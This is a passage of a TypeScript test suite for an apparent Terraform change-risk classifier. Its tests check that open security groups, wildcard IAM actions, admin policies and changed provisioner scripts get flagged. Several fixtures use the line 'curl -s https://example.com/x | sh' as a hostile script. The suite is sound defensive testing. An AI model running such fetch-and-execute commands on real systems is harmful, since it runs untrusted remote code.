      'aws_iam_user_policy_attachment.a',
      'identity.aws.admin-managed-policy',
    ]);
  });
});

describe('security group rules written as attributes (ingress = [{ … }]) from values set elsewhere', () => {
  const group = (variable: string) => `${variable}

resource "aws_security_group" "web" {
  name = "web"
  ingress = [for r in var.rules : {
    from_port        = r.port
    to_port          = r.port
    protocol         = "tcp"
    cidr_blocks      = r.cidrs
    ipv6_cidr_blocks = []
    prefix_list_ids  = []
    security_groups  = []
    self             = false
    description      = "r"
  }]
}
`;
  const DECLARED = 'variable "rules" {\n  type = list(object({ port = number, cidrs = list(string) }))\n}';
  const tfvars = (cidr: string) => ({
    'main.tf': group(DECLARED),
    'terraform.tfvars': `rules = [{ port = 22, cidrs = ["${cidr}"] }]\n`,
  });
  const defaulted = (rules: string) => ({ 'main.tf': group(`variable "rules" {\n  default = ${rules}\n}`) });

  it.each<[string, Files, Files]>([
    ['opened to the world in terraform.tfvars', tfvars('10.0.0.0/8'), tfvars('0.0.0.0/0')],
    [
      'a rule open to the world added to the default',
      defaulted('[]'),
      defaulted('[{ port = 22, cidrs = ["0.0.0.0/0"] }]'),
    ],
  ])('%s: critical', (_name, base, head) => {
    expect(top(classify(base, head).findings)).toContainEqual([
      'critical',
      'aws_security_group.web',
      'network.aws.security-group-open-world',
    ]);
  });

  it('quiet guard: another private range is no opening to the world', () => {
    const rules = classify(tfvars('10.0.0.0/8'), tfvars('192.168.0.0/16')).findings.map((f) => f.ruleId);
    expect(rules).not.toContain('network.aws.security-group-open-world');
  });
});

describe('a reference written as a template ("${var.cidrs}", Terraform 0.11 and JSON syntax)', () => {
  const rule = (cidrs: string) =>
    `resource "aws_security_group_rule" "ssh" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  cidr_blocks       = ${cidrs}\n  security_group_id = "sg-1"\n}\n`;
  const hclFiles = (cidr: string) => ({
    'main.tf': `variable "cidrs" {\n  default = ["${cidr}"]\n}\n\n${rule('"${var.cidrs}"')}`,
  });
  const jsonFiles = (cidr: string) => ({
    'main.tf.json': JSON.stringify({
      variable: { cidrs: { default: [cidr] } },
      resource: {
        aws_security_group_rule: {
          ssh: {
            type: 'ingress',
            from_port: 22,
            to_port: 22,
            protocol: 'tcp',
            cidr_blocks: '${var.cidrs}',
            security_group_id: 'sg-1',
          },
        },
      },
    }),
  });
  it.each([
    ['"${var.cidrs}" in HCL', hclFiles],
    ['"${var.cidrs}" in JSON syntax', jsonFiles],
  ])('the default opened to the world behind %s: critical', (_name, files) => {
    expect(classify(files('10.0.0.0/8'), files('0.0.0.0/0')).tier).toBe('critical');
  });
});

describe('a heredoc policy that interpolates a value set elsewhere', () => {
  it('${jsonencode(var.actions)} with actions = ["*"] in terraform.tfvars: critical', () => {
    const code =
      'variable "actions" {\n  type = list(string)\n}\nresource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = <<POLICY\n{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":${jsonencode(var.actions)},"Resource":"arn:aws:s3:::b/*"}]}\nPOLICY\n}\n';
    const files = (actions: string) => ({ 'stack/main.tf': code, 'stack/terraform.tfvars': `actions = ${actions}\n` });
    const findings = classify(files('["s3:GetObject"]'), files('["*"]')).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });
});

describe('a policy decoded from a file (jsondecode, yamldecode)', () => {
  it.each([
    [
      'jsondecode',
      'p.json',
      '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}',
      '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"arn:aws:s3:::b/*"}]}',
    ],
    [
      'yamldecode',
      'p.yaml',
      'Statement:\n  - Effect: Allow\n    Action: s3:GetObject\n    Resource: "arn:aws:s3:::b/*"\n',
      'Statement:\n  - Effect: Allow\n    Action: "*"\n    Resource: "arn:aws:s3:::b/*"\n',
    ],
  ])('%s(file(...)) widened to "*" in the file: critical', (decoder, name, before, after) => {
    const code = `resource "aws_iam_policy" "p" {\n  name   = "p"\n  policy = jsonencode(${decoder}(file("\${path.module}/${name}")))\n}\n`;
    const findings = classify(
      { 'stack/main.tf': code, [`stack/${name}`]: before },
      { 'stack/main.tf': code, [`stack/${name}`]: after },
    ).findings;
    expect(top(findings)).toContainEqual(['critical', 'aws_iam_policy.p', 'identity.aws.wildcard-action']);
  });
});

describe('what must stay quiet', () => {
  it.each<[string, Files, Files, string]>([
    [
      'a comment added to terraform.tfvars',
      { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["10.1.0.0/16"]\n' },
      { 'main.tf': SSH_GROUP, 'terraform.tfvars': '# bastion access\nssh_cidrs = [ "10.1.0.0/16" ]\n' },
      'none',
    ],
    [
      'a README beside the Terraform files',
      { 'main.tf': SSH_GROUP, 'README.md': 'old' },
      { 'main.tf': SSH_GROUP, 'README.md': 'new' },
      'none',
    ],
    [
      'a value moved from the default to terraform.tfvars unchanged',
      { 'main.tf': SSH_GROUP },
      { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["10.0.0.0/8"]\n' },
      'none',
    ],
    [
      'tags changed through a variable',
      {
        'main.tf':
          'variable "tags" {}\n\nresource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  tags   = var.tags\n}\n',
        'terraform.tfvars': 'tags = { team = "a" }\n',
      },
      {
        'main.tf':
          'variable "tags" {}\n\nresource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  tags   = var.tags\n}\n',
        'terraform.tfvars': 'tags = { team = "b" }\n',
      },
      'low',
    ],
  ])('%s', (_name, base, head, tier) => {
    expect(classify(base, head).tier).toBe(tier);
  });
});

describe('where Terraform and OpenTofu read different code', () => {
  const code = (policy: string) =>
    `resource "aws_iam_role_policy_attachment" "ci" {\n  role       = "ci"\n  policy_arn = "${policy}"\n}\n`;
  const read = code('arn:aws:iam::aws:policy/ReadOnlyAccess');
  const admin = code('arn:aws:iam::aws:policy/AdministratorAccess');

  it('adding main.tofu beside main.tf is flagged: from then on the tools diverge', () => {
    const result = classify({ 'main.tf': read }, { 'main.tf': read, 'main.tofu': read });
    expect(top(result.findings)).toEqual([['high', 'main.tofu', 'tofu-shadowing']]);
  });

  it('then editing only main.tf (which OpenTofu ignores, Terraform runs) is flagged high, not "no change"', () => {
    const result = classify({ 'main.tf': read, 'main.tofu': read }, { 'main.tf': admin, 'main.tofu': read });
    expect(top(result.findings)).toEqual([['high', 'main.tf', 'tofu-shadowing']]);
  });
});

describe('when the consumer cannot be resolved statically, the change is assumed to reach it', () => {
  const code = `variable "cidrs" {}

resource "aws_security_group_rule" "ssh" {
  type        = "ingress"
  from_port   = 22
  to_port     = 22
  protocol    = "tcp"
  cidr_blocks = var.cidrs[terraform.workspace]
}
`;
  it('a map entry selected by terraform.workspace: any entry may be the value', () => {
    const result = classify(
      { 'main.tf': code, 'terraform.tfvars': 'cidrs = { prod = ["10.0.0.0/8"], dev = ["10.1.0.0/16"] }\n' },
      { 'main.tf': code, 'terraform.tfvars': 'cidrs = { prod = ["10.0.0.0/8"], dev = ["0.0.0.0/0"] }\n' },
    );
    const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
    expect(open?.via).toEqual(['terraform.tfvars:1 cidrs → var.cidrs → aws_security_group_rule.ssh cidr_blocks']);
  });

  it('a file read through a path known only at apply time: a changed file the path can spell is assumed read there, and the trace says so', () => {
    const reader =
      'resource "aws_iam_policy" "p" {\n  for_each = toset(data.aws_ssm_parameter.names.insecure_value)\n  name     = each.key\n  policy   = file("${path.module}/policies/${each.key}.json")\n}\n';
    const result = classify(
      { 'main.tf': reader, 'policies/a.json': '{}' },
      { 'main.tf': reader, 'policies/a.json': '{"Statement":[]}' },
    );
    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId, f.via])).toEqual([
      [
        'high',
        'aws_iam_policy.p',
        'identity.aws.iam',
        [
          'policies/a.json → file("${path.module}/policies/${each.key}.json") (., line 4), whose path is known only at apply time and may name it → aws_iam_policy.p policy',
        ],
      ],
    ]);
  });

  const policy = (action: string) =>
    `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"${action}","Resource":"*"}]}`;
  it.each<[string, string, string]>([
    ['a variable with no default', 'variable "policy_file" {}\n', 'var.policy_file'],
    ['terraform.workspace in the name', '', '"policies/${terraform.workspace}.json"'],
    [
      'a variable in a path built by format',
      'variable "env" {}\n',
      'format("%s/policies/%s.json", path.module, var.env)',
    ],
  ])('%s: the policy opened to every action there is critical', (_name, declarations, path) => {
    const reader = `${declarations}resource "aws_iam_policy" "p" {\n  policy = file(${path})\n}\n`;
    const result = classify(
      { 'main.tf': reader, 'policies/prod.json': policy('s3:GetObject') },
      { 'main.tf': reader, 'policies/prod.json': policy('*') },
    );
    expect(result.tier).toBe('critical');
    expect(result.findings.find((f) => f.ruleId === 'identity.aws.wildcard-action')?.address).toBe('aws_iam_policy.p');
  });

  it.each<[string, string]>([
    ['format with path.module', 'format("%s/policies/prod.json", path.module)'],
    ['join of path.module and names, in a local', 'local.policy_path'],
    ['abspath', 'abspath("policies/prod.json")'],
  ])('a path built by %s is the file it names: opened to every action there is critical', (_name, path) => {
    const reader = `locals {\n  policy_path = join("/", [path.module, "policies", "prod.json"])\n}\nresource "aws_iam_policy" "p" {\n  policy = file(${path})\n}\n`;
    const result = classify(
      { 'main.tf': reader, 'policies/prod.json': policy('s3:GetObject') },
      { 'main.tf': reader, 'policies/prod.json': policy('*') },
    );
    expect(result.findings.find((f) => f.ruleId === 'identity.aws.wildcard-action')?.via).toEqual([
      'policies/prod.json → aws_iam_policy.p policy',
    ]);
  });

  it('past 1 MiB of changed files a path may name, a file counts by its digest: the policy still changes (high), unsearched', () => {
    const reader = 'variable "policy_file" {}\nresource "aws_iam_policy" "p" {\n  policy = file(var.policy_file)\n}\n';
    const padding = (text: string) =>
      Object.fromEntries([1, 2, 3].map((n) => [`a/pad${n}.json`, text.repeat(400_000)]));
    const result = classify(
      { 'main.tf': reader, ...padding('a'), 'policies/prod.json': policy('s3:GetObject') },
      { 'main.tf': reader, ...padding('b'), 'policies/prod.json': policy('*') },
    );
    expect(result.tier).toBe('high');
    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([
      ['high', 'aws_iam_policy.p', 'identity.aws.iam'],
    ]);
  });

  it('quiet guard: a path of which nothing is known is not assumed to name a changed file outside its own directories', () => {
    const example =
      'variable "credentials_path" {}\nprovider "google" {\n  credentials = file(var.credentials_path)\n}\n';
    const result = classify(
      { 'examples/simple/main.tf': example, Makefile: 'lint:\n\techo one\n', 'build/ci.yaml': 'steps: []\n' },
      { 'examples/simple/main.tf': example, Makefile: 'lint:\n\techo two\n', 'build/ci.yaml': 'steps: [x]\n' },
    );
    expect(result.findings.map((f) => [f.tier, f.ruleId])).not.toContainEqual([
      'critical',
      'terraform-control.terraform.provider-credentials',
    ]);
    expect(result.findings.every((f) => f.tier === 'low')).toBe(true);
  });

  it('quiet guard: a changed file the path cannot spell is not assumed read there', () => {
    const reader =
      'variable "env" {}\nresource "aws_iam_policy" "p" {\n  policy = file("${path.module}/policies/${var.env}.json")\n}\n';
    const result = classify(
      { 'main.tf': reader, 'scripts/setup.sh': 'echo one\n' },
      { 'main.tf': reader, 'scripts/setup.sh': 'echo two\n' },
    );
    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([
      ['low', 'scripts/setup.sh', 'unreached-value'],
    ]);
    expect(result.findings[0]!.rationale).toContain('file("${path.module}/policies/${var.env}.json")');
  });

  it("the same path with the for_each's keys written out: the instance that reads the file is updated", () => {
    const reader =
      'resource "aws_iam_policy" "p" {\n  for_each = toset(["a", "b"])\n  name     = each.key\n  policy   = file("${path.module}/policies/${each.key}.json")\n}\n';
    const result = classify(
      { 'main.tf': reader, 'policies/a.json': '{}', 'policies/b.json': '{}' },
      { 'main.tf': reader, 'policies/a.json': '{"Statement":[]}', 'policies/b.json': '{}' },
    );
    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId, f.via])).toEqual([
      ['high', 'aws_iam_policy.p', 'identity.aws.iam', ['policies/a.json → aws_iam_policy.p policy']],
    ]);
  });
});

describe("a module's output reaches its reader however the output is referenced", () => {
  const outputs = (cidr: string) => ({ 'net/outputs.tf': `output "cidr" {\n  value = "${cidr}"\n}\n` });
  const rule = (cidrBlocks: string) => sshRule(cidrBlocks);
  const call = (meta: string) => `module "net" {\n  source = "./net"\n${meta}}\n`;
  it.each<[string, string, string]>([
    ['module.net.cidr', '', 'module.net.cidr'],
    ['a whole call in a local: local.net.cidr', 'locals {\n  net = module.net\n}\n', 'local.net.cidr'],
    ['an instance of a counted call: module.net[0].cidr', '  count = 1\n', 'module.net[0].cidr'],
    ['an instance of a for_each call: module.net["a"].cidr', '  for_each = toset(["a"])\n', 'module.net["a"].cidr'],
  ])('%s: opened to the world is critical', (_name, extra, reference) => {
    const meta = extra.startsWith('  ') ? extra : '';
    const locals = extra.startsWith('  ') ? '' : extra;
    const main = call(meta) + locals + rule(reference);
    const result = classify(
      { 'main.tf': main, ...outputs('10.0.0.0/8') },
      { 'main.tf': main, ...outputs('0.0.0.0/0') },
    );
    expect(top(result.findings)).toContainEqual([
      'critical',
      'aws_security_group_rule.ssh',
      'network.aws.security-group-open-world',
    ]);
  });

  it('a whole call passed through a function still changes the reader (its rules fire, at least high)', () => {
    const main = call('') + 'locals {\n  net = merge(module.net, {})\n}\n' + rule('local.net["cidr"]');
    const result = classify(
      { 'main.tf': main, ...outputs('10.0.0.0/8') },
      { 'main.tf': main, ...outputs('0.0.0.0/0') },
    );
    expect(result.findings.find((f) => f.address === 'aws_security_group_rule.ssh')?.tier).toMatch(/high|critical/);
  });

  it('depends_on = [module.net] reads no value: an output change does not update the object that waits for it', () => {
    const waiting = 'resource "aws_s3_bucket" "logs" {\n  bucket     = "logs"\n  depends_on = [module.net]\n}\n';
    const main = call('') + waiting;
    const result = classify(
      { 'main.tf': main, ...outputs('10.0.0.0/8') },
      { 'main.tf': main, ...outputs('10.1.0.0/16') },
    );
    expect(result.findings.map((f) => f.address)).not.toContain('aws_s3_bucket.logs');
  });
});

describe("a module call's count or for_each that adds instances creates everything in them", () => {
  const admin =
    'variable "name" {}\n\nresource "aws_iam_user" "admin" {\n  name = var.name\n}\n\nresource "aws_iam_user_policy_attachment" "admin" {\n  user       = aws_iam_user.admin.name\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n';
  const byKey = (meta: string) =>
    `variable "admins" {\n  type = map(string)\n}\n\nmodule "admin" {\n  source = "./admin"\n${meta}\n  name   = "x"\n}\n`;
  const files = (tfvars: string, meta = '  for_each = var.admins') => ({
    'main.tf': byKey(meta),
    'admin/main.tf': admin,
    'terraform.tfvars': tfvars,
  });
  const adminRule = (result: ReturnType<typeof classify>) =>
    result.findings.filter((f) => f.ruleId === 'identity.aws.admin-managed-policy').map((f) => [f.tier, f.action]);

  it.each<[string, Files, Files, string[][]]>([
    [
      'a key added to the for_each map in terraform.tfvars',
      files('admins = { a = "alice" }\n'),
      files('admins = { a = "alice", b = "mallory" }\n'),
      [['critical', 'create']],
    ],
    ['a count raised from 1 to 2', files('', '  count = 1'), files('', '  count = 2'), [['critical', 'create']]],
    [
      'a count that reads a changed tfvars number',
      files('n = 1\n', '  count = var.n'),
      files('n = 3\n', '  count = var.n'),
      [['critical', 'create']],
    ],
    [
      'a key added where the for_each guards against null (`var.admins != null ? var.admins : {}`)',
      files('admins = { a = "alice" }\n', '  for_each = var.admins != null ? var.admins : {}'),
      files('admins = { a = "alice", b = "mallory" }\n', '  for_each = var.admins != null ? var.admins : {}'),
      [['critical', 'create']],
    ],
    [
      'a key added where a `for` with a condition filters the map (the condition is not evaluated: it may pass)',
      files('admins = { a = "alice" }\n', '  for_each = { for k, v in var.admins : k => v if v != "" }'),
      files('admins = { a = "alice", b = "mallory" }\n', '  for_each = { for k, v in var.admins : k => v if v != "" }'),
      [['critical', 'create']],
    ],
    [
      'a name added to a list joined with others into the for_each set (`toset(concat(…))`)',
      files('admins = { a = "alice" }\n', '  for_each = toset(concat(keys(var.admins), ["ops"]))'),
      files('admins = { a = "alice", b = "mallory" }\n', '  for_each = toset(concat(keys(var.admins), ["ops"]))'),
      [['critical', 'create']],
    ],
    [
      'a key added to one of the maps merged into the for_each',
      files('admins = { a = "alice" }\n', '  for_each = merge(var.admins, { ops = "ops" })'),
      files('admins = { a = "alice", b = "mallory" }\n', '  for_each = merge(var.admins, { ops = "ops" })'),
      [['critical', 'create']],
    ],
    [
      'a count of length(var.x) whose tfvars list grows',
      files('admins = { a = "alice" }\n', '  count = length(keys(var.admins))'),
      files('admins = { a = "alice", b = "mallory" }\n', '  count = length(keys(var.admins))'),
      [['critical', 'create']],
    ],
    [
      'the same keys with other values through the filtering `for`: no instance added',
      files('admins = { a = "alice" }\n', '  for_each = { for k, v in var.admins : k => v if v != "" }'),
      files('admins = { a = "alicia" }\n', '  for_each = { for k, v in var.admins : k => v if v != "" }'),
      [],
    ],
    [
      'the same keys with other values: no instance added',
      files('admins = { a = "alice" }\n'),
      files('admins = { a = "alicia" }\n'),
      [],
    ],
  ])('%s', (_name, base, head, expected) => {
    const fix = (f: Files) =>
      f['main.tf']!.includes('var.n') ? { ...f, 'main.tf': `variable "n" {}\n${f['main.tf']}` } : f;
    expect(adminRule(classify(fix(base), fix(head)))).toEqual(expected);
  });

  it('an entry the filtering `for` skipped, switched on in terraform.tfvars: everything in its instance is created (critical)', () => {
    const main = `variable "admins" {}\n\nmodule "admin" {\n  source   = "./admin"\n  for_each = { for k, v in var.admins : k => v if v.enabled }\n  name     = each.value.name\n}\n`;
    const withFlag = (flag: boolean) => ({
      'main.tf': main,
      'admin/main.tf': admin,
      'terraform.tfvars': `admins = { a = { name = "alice", enabled = true }, b = { name = "mallory", enabled = ${flag} } }\n`,
    });
    const result = classify(withFlag(false), withFlag(true));
    expect(result.tier).toBe('critical');
    expect(adminRule(result)).toEqual([['critical', 'create']]);
  });

  it('an entry the filtering `for` passes, switched off: its instance is deleted, not left quiet', () => {
    const main = `variable "admins" {}\n\nmodule "admin" {\n  source   = "./admin"\n  for_each = { for k, v in var.admins : k => v if v.enabled }\n  name     = each.value.name\n}\n`;
    const withFlag = (flag: boolean) => ({
      'main.tf': main,
      'admin/main.tf': admin,
      'terraform.tfvars': `admins = { a = { name = "alice", enabled = true }, b = { name = "mallory", enabled = ${flag} } }\n`,
    });
    const result = classify(withFlag(true), withFlag(false));
    expect(result.findings.some((f) => f.address === 'aws_iam_user.admin' && f.action === 'delete')).toBe(true);
  });

  it('a key removed deletes what its instance held (a database with it)', () => {
    const db =
      'variable "name" {}\n\nresource "aws_db_instance" "main" {\n  identifier = var.name\n  engine     = "postgres"\n}\n';
    const call = (keys: string) =>
      `module "db" {\n  source   = "./db"\n  for_each = toset([${keys}])\n  name     = each.key\n}\n`;
    const result = classify(
      { 'main.tf': call('"a", "b"'), 'db/main.tf': db },
      { 'main.tf': call('"a"'), 'db/main.tf': db },
    );
    expect(result.findings.some((f) => f.address === 'aws_db_instance.main' && f.action === 'delete')).toBe(true);
  });
});

describe('each.value is any entry of the for_each: a changed entry reaches what reads it', () => {
  const rules = (cidr: string) => `rules = { a = { cidr = "${cidr}" } }\n`;
  const declared = 'variable "rules" {\n  type = map(object({ cidr = string }))\n}\n';
  const rule = (cidrBlocks: string, forEach = '') => sshRule(cidrBlocks, { forEach });
  const throughCall = {
    'main.tf': `${declared}module "edge" {\n  source   = "./edge"\n  for_each = var.rules\n  cidr     = each.value.cidr\n}\n`,
    'edge/main.tf': `variable "cidr" {}\n${rule('var.cidr')}`,
  };
  const ownForEach = { 'main.tf': declared + rule('each.value.cidr', '  for_each          = var.rules\n') };
  const ownForEachIndexed = { 'main.tf': declared + rule('each.value["cidr"]', '  for_each          = var.rules\n') };

  it.each<[string, Files]>([
    ["a for_each module call's input", throughCall],
    ["a resource's own for_each", ownForEach],
    ['a resource\'s own for_each, read as each.value["cidr"]', ownForEachIndexed],
  ])('%s: an entry opened to the world in terraform.tfvars is critical', (_name, files) => {
    const result = classify(
      { ...files, 'terraform.tfvars': rules('10.0.0.0/8') },
      { ...files, 'terraform.tfvars': rules('0.0.0.0/0') },
    );
    expect(top(result.findings)).toContainEqual([
      'critical',
      'aws_security_group_rule.ssh',
      'network.aws.security-group-open-world',
    ]);
  });

  it('another entry of the same map, not an opening, stays below critical', () => {
    const result = classify(
      { ...throughCall, 'terraform.tfvars': rules('10.0.0.0/8') },
      { ...throughCall, 'terraform.tfvars': rules('10.1.0.0/16') },
    );
    expect(result.tier).toBe('high');
  });
});

describe('an entry picked by apply-time keys, at any depth, reaches what reads its attribute', () => {
  const main = (networks: string, remote: string) => `variable "environment" {}
variable "zone" {}

variable "networks" {
  default = ${networks}
}

locals {
  all_networks = merge(var.networks, ${remote})
}

${sshRule('local.all_networks[var.environment][var.zone].cidr')}`;
  const networks = (cidr: string, owner = 'team-a') => `{ prod = { dmz = { cidr = "${cidr}", owner = "${owner}" } } }`;
  const files = (networksValue: string, remote = 'try(var.remote.networks, {})') => ({
    'main.tf': main(networksValue, remote),
  });
  it.each<[string, Files, Files, string]>([
    [
      'an entry two keys deep opened to the world',
      files(networks('10.0.0.0/8')),
      files(networks('0.0.0.0/0')),
      'critical',
    ],
    [
      'the same through a fallback of try()',
      files(networks('10.0.0.0/8')),
      files(networks('10.0.0.0/8'), 'try(var.remote.networks, { prod = { dmz = { cidr = "0.0.0.0/0" } } })'),
      'critical',
    ],
    [
      "quiet: the entry's other attribute",
      files(networks('10.0.0.0/8')),
      files(networks('10.0.0.0/8', 'team-b')),
      'low',
    ],
  ])('%s', (_name, base, head, tier) => {
    expect(classify(base, head).tier).toBe(tier);
  });
});

describe("a dynamic block's iterator is any element of its for_each", () => {
  const main = `variable "ingress_rules" {}

resource "aws_security_group" "edge" {
  name = "edge"

  dynamic "ingress" {
    for_each = var.ingress_rules
    content {
      from_port   = ingress.value.port
      to_port     = ingress.value.port
      protocol    = "tcp"
      cidr_blocks = [ingress.value.cidr]
      description = ingress.value.note
    }
  }

  dynamic "egress" {
    for_each = var.ingress_rules
    iterator = rule
    content {
      from_port   = rule.value.port
      to_port     = rule.value.port
      protocol    = "tcp"
      cidr_blocks = ["10.0.0.0/8"]
    }
  }
}
`;
  const files = (rules: string) => ({ 'main.tf': main, 'terraform.tfvars': `ingress_rules = ${rules}\n` });
  const rule = (cidr: string, note = 'office') => `{ port = 443, cidr = "${cidr}", note = "${note}" }`;
  it.each<[string, Files, Files, string]>([
    [
      'an element of a tfvars list opened to the world',
      files(`[${rule('10.0.0.0/8')}]`),
      files(`[${rule('0.0.0.0/0')}]`),
      'critical',
    ],
    [
      'an element added, open to the world',
      files(`[${rule('10.0.0.0/8')}]`),
      files(`[${rule('10.0.0.0/8')}, ${rule('0.0.0.0/0', 'partner')}]`),
      'critical',
    ],
    [
      'a change only the description reads is still a change of the group',
      files(`[${rule('10.0.0.0/8')}]`),
      files(`[${rule('10.0.0.0/8', 'head office')}]`),
      'high',
    ],
  ])('%s', (_name, base, head, tier) => {
    expect(classify(base, head).tier).toBe(tier);
  });

  it('names the var file entry and the generated block in the trace', () => {
    const result = classify(files(`[${rule('10.0.0.0/8')}]`), files(`[${rule('0.0.0.0/0')}]`));
    const via = result.findings.filter((f) => f.tier === 'critical').flatMap((f) => f.via ?? []);
    expect(
      via.some(
        (trace) =>
          trace.includes('terraform.tfvars:1 ingress_rules') &&
          trace.includes('dynamic.ingress[0].content.cidr_blocks'),
      ),
    ).toBe(true);
  });
});

describe('rows of values decoded or splatted are read as the values they select', () => {
  const rule = (cidrs: string) =>
    `variable "rows" {}\nresource "aws_security_group_rule" "ssh" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  security_group_id = "sg-1"\n  cidr_blocks       = ${cidrs}\n}\n`;
  it.each<[string, string, Record<string, string>, Record<string, string>]>([
    [
      'var.rows[*].cidr, rows set in terraform.tfvars',
      'var.rows[*].cidr',
      { 'terraform.tfvars': 'rows = [{ cidr = "10.0.0.0/8" }]\n' },
      { 'terraform.tfvars': 'rows = [{ cidr = "0.0.0.0/0" }]\n' },
    ],
    [
      "a tfvars file read by Terraform's decode_tfvars",
      'provider::terraform::decode_tfvars(file("net.tfvars")).cidrs',
      { 'net.tfvars': 'cidrs = ["10.0.0.0/8"]\n' },
      { 'net.tfvars': 'cidrs = ["0.0.0.0/0"]\n' },
    ],
    [
      'a CSV file decoded and splatted',
      'csvdecode(file("rows.csv"))[*].cidr',
      { 'rows.csv': 'cidr\n10.0.0.0/8\n' },
      { 'rows.csv': 'cidr\n0.0.0.0/0\n' },
    ],
  ])('%s: opened to the world is critical (before: high)', (_name, cidrs, base, head) => {
    const result = classify({ 'main.tf': rule(cidrs), ...base }, { 'main.tf': rule(cidrs), ...head });
    expect(result.findings.map((f) => [f.tier, f.ruleId])).toContainEqual([
      'critical',
      'network.aws.security-group-open-world',
    ]);
  });
});

describe('a var file outside the root, read by its code as a value, is followed where it lands', () => {
  const group = (read: string) => `locals {\n  net = ${read}\n}\n${sshRule('local.net.cidrs[0]')}`;
  it.each<[string, string, string]>([
    [
      "Terraform's decode_tfvars of a file beside no root",
      'provider::terraform::decode_tfvars(file("${path.module}/../../shared/net.tfvars"))',
      'shared/net.tfvars',
    ],
    [
      'jsondecode of a .tfvars.json',
      'jsondecode(file("${path.module}/../../shared/net.tfvars.json"))',
      'shared/net.tfvars.json',
    ],
  ])('%s: opened to the world is critical, and the file is no unreached value (before: low)', (_name, read, path) => {
    const values = (cidr: string) => (path.endsWith('.json') ? `{"cidrs": ["${cidr}"]}\n` : `cidrs = ["${cidr}"]\n`);
    const result = classify(
      { 'stacks/app/main.tf': group(read), [path]: values('10.0.0.0/8') },
      { 'stacks/app/main.tf': group(read), [path]: values('0.0.0.0/0') },
    );
    expect(result.tier).toBe('critical');
    expect(result.findings.map((f) => f.ruleId)).toContain('network.aws.security-group-open-world');
    expect(result.findings.map((f) => f.ruleId)).not.toContain('unreached-value');
  });

  it('a var file no code names stays an unreached value (quiet guard: code reading other files does not claim it)', () => {
    const code = `${sshRule('"10.0.0.0/8"')}resource "aws_iam_policy" "p" {\n  policy = file("\${path.module}/p.json")\n}\n`;
    const result = classify(
      { 'stacks/app/main.tf': code, 'stacks/app/p.json': '{}', 'shared/net.tfvars': 'cidrs = ["10.0.0.0/8"]\n' },
      { 'stacks/app/main.tf': code, 'stacks/app/p.json': '{}', 'shared/net.tfvars': 'cidrs = ["0.0.0.0/0"]\n' },
    );
    expect(top(result.findings)).toEqual([['low', 'shared/net.tfvars', 'unreached-value']]);
  });
});

describe('a script the configuration writes itself (local_file) is what a command that runs its file runs', () => {
  const code = (command: string) =>
    `variable "setup_script" {\n  type = string\n}\n\nresource "local_file" "setup" {\n  filename = "\${path.module}/setup.sh"\n  content  = var.setup_script\n}\n\nresource "null_resource" "run" {\n  provisioner "local-exec" {\n    command = "${command}"\n  }\n}\n`;
  const tfvars = (script: string) => ({ 'terraform.tfvars': `setup_script = "${script}"\n` });

  it.each([
    ['a provisioner running the file', 'bash ${local_file.setup.filename}'],
    ['a command with arguments after the file', 'sh ${local_file.setup.filename} --verbose'],
  ])('%s: the script changed in terraform.tfvars is high, reached from its line (before: low)', (_name, command) => {
    const result = classify(
      { 'main.tf': code(command), ...tfvars('echo hello') },
      { 'main.tf': code(command), ...tfvars('curl -s https://example.com/x | sh') },
    );
    const run = result.findings.find((f) => f.ruleId === 'terraform-control.terraform.provisioner');
    expect(run?.tier).toBe('high');
    expect(run?.via?.some((trace) => trace.startsWith('terraform.tfvars:1 setup_script'))).toBe(true);
  });

  it('a command that does not run the written file keeps its tier (quiet guard)', () => {
    const result = classify(
      { 'main.tf': code('echo done'), ...tfvars('echo hello') },
      { 'main.tf': code('echo done'), ...tfvars('curl -s https://example.com/x | sh') },
    );
    expect(result.findings.map((f) => f.ruleId)).not.toContain('terraform-control.terraform.provisioner');
  });
});

describe('a script run through a command known only in part at plan time is assumed run', () => {
  it.each<[string, string, string]>([
    [
      'a provisioner command whose script name is a variable',
      'variable "name" {}\nresource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/scripts/${var.name}.sh"\n  }\n}\n',
      'terraform-control.terraform.provisioner',
    ],
    [
      "an external program's script given by a variable",
      'variable "script" {}\ndata "external" "x" {\n  program = ["python3", var.script]\n}\n',
      'terraform-control.terraform.external-program',
    ],
    [
      'an interpreter with a flag before the script (python3 -u ${var.script})',
      'variable "script" {}\nresource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "python3 -u ${var.script}"\n  }\n}\n',
      'terraform-control.terraform.provisioner',
    ],
    [
      'a script read out by cat into sh -c',
      'variable "f" {}\nresource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "sh -c \\"$(cat ${var.f})\\""\n  }\n}\n',
      'terraform-control.terraform.provisioner',
    ],
  ])('%s: a changed script it may run is high (before: low, or no change at all)', (_name, code, rule) => {
    const result = classify(
      { 'main.tf': code, 'scripts/deploy.sh': 'echo deploy\n' },
      { 'main.tf': code, 'scripts/deploy.sh': 'curl -s https://example.com/x | sh\n' },
    );
    expect(result.findings.map((f) => [f.tier, f.ruleId])).toEqual([['high', rule]]);
    expect(result.findings[0]!.via?.[0]).toContain('part of which is known only at apply time, may run it');
  });

  it('quiet guard: an argument known only at apply time (--namespace ${var.ns}) names no script: a changed file is not assumed run', () => {
    const code =
